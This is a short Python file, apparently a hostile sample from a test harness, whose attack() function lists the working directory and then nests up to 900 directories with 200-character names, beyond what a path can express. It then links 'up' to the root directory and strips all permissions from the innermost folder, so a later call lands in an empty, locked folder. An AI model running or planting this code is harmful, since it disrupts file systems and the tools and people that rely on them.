"""Makes folders in folders, deeper than a path can say; the next call finds an empty folder."""

import contextlib
import os

STATUS, RESULT, NEEDS = "ok", [], ""


def attack():
    found = os.listdir(".")
    with contextlib.suppress(OSError):
        for _ in range(900):
            os.mkdir("d" * 200)
            os.chdir("d" * 200)
    with contextlib.suppress(OSError):
        os.symlink("/", "up")
        os.chmod(".", 0)
    return found
